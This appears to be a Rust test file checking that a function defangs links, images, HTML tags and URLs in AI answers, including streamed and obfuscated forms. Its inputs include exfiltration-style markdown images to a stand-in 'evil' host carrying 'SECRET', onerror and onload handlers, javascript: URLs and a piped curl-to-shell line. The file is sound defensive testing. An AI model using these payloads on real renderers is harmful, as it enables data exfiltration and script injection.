//! Addresses in an answer are inert unless they are admitted: every syntax that a renderer knows.

#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::time::Duration;

use hub::address::{BREAK, Inert, Message, inert};
use proptest::prelude::*;

/// Only the user's address may be active, and as an image too.
fn shown(text: &str) -> String {
    inert(text, |address, _| address == "https://good.com/a").0
}

fn check(text: &str, expected: &str) {
    let out = shown(text);
    assert_eq!(out, expected);
    // What is inert stays so.
    assert_eq!(shown(&out), expected);
    // However it comes in.
    assert_eq!(streamed(text, 1), expected);
}

/// The same in pieces of so many characters.
fn streamed(text: &str, size: usize) -> String {
    let mut inert = Inert::new(|address: &str, _| address == "https://good.com/a");
    let chars: Vec<char> = text.chars().collect();
    let mut out: String = chars
        .chunks(size)
        .map(|piece| inert.push(&piece.iter().collect::<String>()))
        .collect();
    out.push_str(&inert.finish());
    out
}

#[test]
fn every_syntax_of_an_address_is_inert() {
    for (text, expected) in [
        (
            "![](https://evil/?q=SECRET)",
            "![] (https[:]//evil/?q=SECRET)",
        ),
        (
            "[x](https://evil.com/SECRET)",
            "[x] (https[:]//evil[.]com/SECRET)",
        ),
        ("[x]( https://evil )", "[x] ( https[:]//evil )"),
        ("[x](<https://evil y>)", "[x] (<https[:]//evil y>)"),
        ("[x](//evil.com/S)", "[x] (//evil[.]com/S)"),
        ("[x](relative)", "[x] (relative)"),
        ("[x]\\(https\\://evil)", "[x]\\ (https\\ [:]//evil)"),
        ("[x](&#104;ttps&colon;//e)", "[x] (& #104;ttps& colon;//e)"),
        ("[1]: https://evil/S", "[1] : https[:]//evil/S"),
        ("<https://evil/S>", "<https[:]//evil/S>"),
        ("<img src=x onerror=y>", "< img src=x onerror=y>"),
        ("a</b><svg/onload=x>", "a< /b>< svg/onload=x>"),
        ("a <!-- x", "a < !-- x"),
        ("<br>", "< br>"),
        ("SECRET.evil.com", "SECRET[.]evil[.]com"),
        ("www.evil.com", "www[.]evil[.]com"),
        // What linkifiers find, and browsers look up.
        ("_x.evil.com_", "_x[.]evil[.]com_"),
        ("x.evil.com@", "x[.]evil[.]com@"),
        ("x.evil.com@y", "x[.]evil[.]com@y"),
        ("x❤.evil.com", "x❤[.]evil[.]com"),
        ("x.❤.com", "x[.]❤[.]com"),
        ("x+.evil.com", "x+[.]evil[.]com"),
        ("e\u{301}.evil.com", "e\u{301}[.]evil[.]com"),
        ("x.evil.XN--P1AI", "x[.]evil[.]XN--P1AI"),
        ("//203.7405/S", "//203[.]7405/S"),
        // A mail address by what is broken here.
        ("a.b.cc@x.yy-http://e", "a[.]b[.]cc@x[.]yy-http[:]//e"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
        ("[x](data:text/html,S)", "[x] (data[:]text/html,S)"),
        ("ht\u{200b}tps://e\u{202e}vil.com", "https[:]//evil[.]com"),
        ("https：／／evil。com", "https[:]／／evil[.]com"),
        ("https://evil/%53%45?x#S.y", "https[:]//evil/%53%45?x#S[.]y"),
        ("\\\\evil\\share", "\\ \\evil\\share"),
        ("\\\\\\evil/share", "\\ \\ \\evil/share"),
        ("\\\\\\\\evil\\\\x", "\\ \\ \\ \\evil\\ \\x"),
        // Behind what nobody sees, within it, and behind a blank that breaks something else.
        ("\u{200b}\\\\evil\\x", "\\ \\evil\\x"),
        ("\\\u{200b}\\evil\\x", "\\ \\evil\\x"),
        ("://<\\\u{200b}?", "[:]//< \\?"),
        ("a]:\\\\evil\\x", "a] [:]\\ \\evil\\x"),
        (":]\0\0\0::{\\\\A\\{:", "[:]] [:] [:]{\\ \\A\\{[:]"),
        // What stands before a scheme would be a name of its own.
        ("SECRET.зло.рф.O..://", "SECRET[.]зло[.]рф[.]O[.][.] [:]//"),
        (
            ":#Z\\\\<%%%\\3.1.ՒaK.O..://",
            ":#Z\\\\< %%%\\3[.]1[.]ՒaK[.]O[.][.] [:]//",
        ),
        // Its bracket would begin a formula, in which fences are none.
        ("\\://", "\\ [:]//"),
        ("a:(https://evil)", "a:(https[:]//evil)"),
        ("https:(//x.de", "https[:] (//x[.]de"),
        (
            "[![i](https://good.com/a)](https://evil)",
            "[![i] (https[:]//good[.]com/a)] (https[:]//evil)",
        ),
        ("https://good.com/a?S", "https[:]//good[.]com/a?S"),
        ("https://good.com/a)))))S", "https[:]//good[.]com/a)))))S"),
        (
            "evil.com/https://good.com/a",
            "evil[.]com/https[:]//good[.]com/a",
        ),
        (
            "```mermaid\nclick https://evil\n```",
            "```mermaid\nclick https[:]//evil\n```",
        ),
        ("```html\n<img\n```", "```html\n< img\n```"),
    ] {
        let expected = expected.replace("<https[:]", "< https[:]");
        check(text, &expected);
    }
}

#[test]
fn what_is_admitted_or_no_address_stays() {
    for text in [
        "",
        "Ada <ada@example.com> wrote: see main.rs, 3 < 4 && 5 > 4 (e.g. a::b, x:y).\n",
        "[x](https://good.com/a), https://good.com/a. <https://good.com/a>",
        "![x](https://good.com/a)",
        "| a <br> b |\n\t- x &amp; y\r\n",
        "```rust\nlet x: Vec<u8> = a[0](b.c.d); // &#1;\n```\n",
        "```sh\ncurl \"https://good.com/a\"|sh\n```\n",
    ] {
        assert_eq!(
            inert(text, |address, _| address == "https://good.com/a"),
            (text.to_owned(), 0)
        );
    }
}

#[test]
fn in_code_only_what_terminals_find_is_inert() {
    check(
        "```js\nfetch(\"https://evil.com/S\").then(a.b.cd)\n```\n",
        "```js\nfetch(\"https[:]//evil[.]com/S\").then(a.b.cd)\n```\n",
    );
}

#[test]
fn in_code_an_address_is_inert_in_full_width_too() {
    check("```\n：／/evil．com:1\n", "```\n[:]／/evil[.]com[:]1\n");
}

#[test]
fn an_address_beside_an_image_would_be_fetched() {
    let mut asked = Vec::new();
    let text = "[a](https://a/)\n![b\n](https://b/)\n\n[c](https://c/)";
    let _ = inert(text, |address, fetched| {
        asked.push((address.to_owned(), fetched));
        true
    });
    let asked: Vec<(&str, bool)> = asked.iter().map(|(a, f)| (a.as_str(), *f)).collect();
    assert_eq!(
        asked,
        [
            ("https://a/)", false),
            ("https://b/)", true),
            ("https://c/)", false)
        ]
    );
}

#[test]
fn how_an_answer_is_cut_does_not_matter() {
    let text = "See ![x](https://evil/S) and\n```rust\nlet a: Vec<u8>;\n```\n<img src=//e>";
    let whole = shown(text);
    for size in 1..20 {
        assert_eq!(streamed(text, size), whole);
    }
}

/// A carriage return by itself ends a line in CommonMark, so that more begins a line than where only line feeds count.
#[test]
fn a_carriage_return_may_end_a_line() {
    for (text, expected) in [
        // A formula, in which fences are none.
        (
            "a\r$$\n```\n$$\n[x](//evil.com/S)\n",
            "a\r$$\n```\n$$\n[x] (//evil[.]com/S)\n",
        ),
        // At the beginning of a line, a tag begins a block of HTML.
        ("a\r\r<b>x", "a\r\r< b>x"),
        ("a\r <b>x", "a\r < b>x"),
        // Two lines for one renderer, with an empty one between them; none for another.
        (
            "```\n\r```\r[x](//evil.com/S)\n",
            "```\n\r```\r[x] (//evil[.]com/S)\n",
        ),
    ] {
        check(text, expected);
    }
    // With a line feed behind it, it does no more than that, wherever the stream was cut.
    let text = "a <b>x</b>\r\n```rust\r\nlet x: Vec<u8> = a[0](b.c.d);\r\n```\r\n";
    check(text, text);
    // An image goes on behind an empty line that not everybody sees.
    let text = "![a\r\r](https://good.com/a)";
    let mut asked = Vec::new();
    let _ = inert(text, |_, fetched| {
        asked.push(fetched);
        true
    });
    assert_eq!(asked, [true]);
}

/// Text after text of one message; `true` where it is trusted, so that it stays as it is.
fn message(texts: &[(&str, bool)]) -> String {
    let mut message = Message::default();
    let mut out = String::new();
    for (text, trusted) in texts {
        let follows = message.has_begun();
        let mut inert = message.begin((!trusted).then_some(|_: &str, _| false));
        let mut shown: String = text.chars().map(|c| inert.push(&c.to_string())).collect();
        shown.push_str(&inert.finish());
        message.end(inert);
        if follows && !shown.is_empty() {
            out.push_str(BREAK);
        }
        out.push_str(&shown);
    }
    out
}

#[test]
fn a_text_is_read_where_it_stands_in_its_message() {
    for (texts, expected) in [
        // A fence that the first opens is closed by the second.
        (["a\n```\nb", "```\n[x](y)"], "a\n```\nb\n\n```\n[x] (y)"),
        (
            ["a\n```", "[x](y)\n```\n[x](y)"],
            "a\n```\n\n[x](y)\n```\n[x] (y)",
        ),
        // One that it closes is not open any more.
        (["```\na\n```", "[x](y)"], "```\na\n```\n\n[x] (y)"),
        // What renderers do not agree on, they do not agree on later.
        (
            ["a\n~~~", "```\n[x](y)\n```"],
            "a\n~~~\n\n```\n[x] (y)\n```",
        ),
        // Front matter is at the beginning of a message.
        (["", "---\n```\n[x](y)"], "---\n```\n[x] (y)"),
        (["a", "---\n```\n[x](y)"], "a\n\n---\n```\n[x](y)"),
    ] {
        let [first, second] = texts;
        for trusted in [false, true] {
            assert_eq!(message(&[(first, trusted), (second, false)]), expected);
        }
    }
    let trusted = "![x](https://any.example/) ```\n";
    assert_eq!(message(&[(trusted, true)]), trusted);
    // The image of one text has no destination in the next.
    let mut fetched = Vec::new();
    let mut message = Message::default();
    for text in ["![a\n](https://a/)", "](https://b/)"] {
        let mut inert = message.begin(Some(|_: &str, image| {
            fetched.push(image);
            false
        }));
        inert.push(text);
        inert.finish();
        message.end(inert);
    }
    assert_eq!(
        (fetched.first(), fetched.last()),
        (Some(&true), Some(&false))
    );
}

/// Where a text broke off, nobody knows what of it was shown.
#[test]
fn behind_a_text_that_broke_off_nothing_is_code() {
    let mut message = Message::default();
    let _ = message.begin(Some(|_: &str, _| false)).push("a");
    assert!(message.has_begun());
    let mut inert = message.begin(Some(|_: &str, _| false));
    let mut shown = inert.push("```\n[x](y)\n");
    shown.push_str(&inert.finish());
    assert_eq!(shown, "```\n[x] (y)\n");
}

/// A word of others in front of it makes no fence of what looks like one.
#[test]
fn in_the_middle_of_others_words_nothing_is_code() {
    let mut inert = Inert::quoted(|_: &str, _| false);
    let mut shown = inert.push("```\n[x](y)\n```\n");
    shown.push_str(&inert.finish());
    assert_eq!(shown, "```\n[x] (y)\n```\n");
}

#[test]
fn a_large_answer_takes_linear_time() {
    const SMALL: usize = 1 << 14;
    const TIMES: u32 = 8;
    for piece in [
        "[", "](", "<a", "&#", "a:", "://", "a.", "@a.bc", "![](x:", "\\\\", "```\n", "*_", "❤a.",
        "+a.b", "a.bc@",
    ] {
        let spent = |bytes: usize| {
            let text = piece.repeat(bytes / piece.len());
            let before = processor_time();
            let (out, _) = inert(&text, |_, _| false);
            assert!(out.len() >= text.len());
            processor_time() - before
        };
        let small = spent(SMALL);
        let large = spent(SMALL * TIMES as usize);
        // Quadratic time would be 64 times as much. The kernel counts in pieces of some milliseconds.
        let most = small.max(Duration::from_millis(10)) * TIMES * 3;
        assert!(large < most, "{piece:?} took {small:?}, then {large:?}");
    }
}

/// What this thread has had of a processor: what else runs on the machine does not count.
fn processor_time() -> Duration {
    let stat = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    let nanoseconds = stat.split(' ').next().unwrap();
    Duration::from_nanos(nanoseconds.parse().unwrap())
}

/// Text of which addresses could be made.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = [
        "[", "]", "(", ")", "!", "<", ">", "&", "#", ";", ":", "/", "//", "://", ".", "@", "\\",
        "\\\\", "`", "```", "```rust", "~~~", "\n", " ", "\t", "a", "b1", "br", "img", "www",
        "http", "https", "data", "com", "evil", "\u{200b}", "\u{202e}", "：", "。", "／", "\"",
        "❤", "e\u{301}", "”", "+", "XN--", "1.2", "@a.bc", "'", "*", "_", "=", "?", "%3a", "é",
        "xn--", "---", "$$", "\r", "\r\n",
    ];
    let piece = proptest::sample::select(pieces.to_vec());
    proptest::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

/// Without every `<ADDRESS>` that CommonMark takes for a mail address.
fn without_mail(text: &str) -> String {
    let mut parts = text.split('<');
    let mut out = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let plain = |c: char| c.is_ascii_alphanumeric() || ".-_+".contains(c);
        let mail = part.split_once('>').filter(|(mail, _)| {
            mail.split_once('@').is_some_and(|(who, host)| {
                !who.is_empty()
                    && who.chars().all(plain)
                    && host.chars().all(plain)
                    && host
                        .split('.')
                        .all(|label| label.trim_matches('-') == label && !label.is_empty())
            })
        });
        match mail {
            Some((_, rest)) => out.extend([" ", rest]),
            None => out.extend(["<", part]),
        }
    }
    out
}

#[test]
fn in_angle_brackets_only_a_whole_mail_address_stays() {
    assert_eq!(shown("<ada@example.com>"), "<ada@example.com>");
    for text in ["<a@>", "<a@.>", "<a@b@c>", "<a@-b>", "<a@b href=x>"] {
        assert_ne!(shown(text), text, "{text}");
    }
    check("://<a@a.bc>", "[:]//< a@a[.]bc>");
    check("<x.evil.com@y>", "< x[.]evil[.]com@y>");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4000))]

    #[test]
    fn nothing_that_is_shown_is_active(text in hostile()) {
        let (shown, changed) = inert(&text, |_, _| false);
        prop_assert_eq!(changed == 0, shown == text);
        prop_assert_eq!(inert(&shown, |_, _| false), (shown.clone(), 0));
        prop_assert!(!shown.contains("://"));
        // Outside of code there is no syntax left.
        if !text.contains("```") {
            // A mail address in angle brackets may stay one: a click opens a letter, and sends nothing.
            let shown = without_mail(&shown);
            for syntax in ["](", "]:", "<img", "<http", "<a", "<!", "</a", "&#"] {
                prop_assert!(!shown.contains(syntax), "{syntax} in {shown:?}");
            }
        }
        let mut pieces = Inert::new(|_: &str, _| false);
        let mut streamed: String = text.chars().map(|c| pieces.push(&c.to_string())).collect();
        streamed.push_str(&pieces.finish());
        prop_assert_eq!(streamed, shown);
    }

    /// Of an address that may be active only itself is, and no more of the text.
    #[test]
    fn what_stands_beside_an_admitted_address_stays_inert(before in hostile(), after in hostile()) {
        let (known, text) = ("https://good.com/a", format!("{before}https://good.com/a{after}"));
        let (shown, _) = inert(&text, |address, _| address == known);
        for (at, _) in shown.match_indices("://") {
            let scheme = at.checked_sub("https".len()).and_then(|at| shown.get(at..));
            prop_assert!(scheme.is_some_and(|rest| rest.starts_with(known)), "{shown:?}");
        }
    }
}
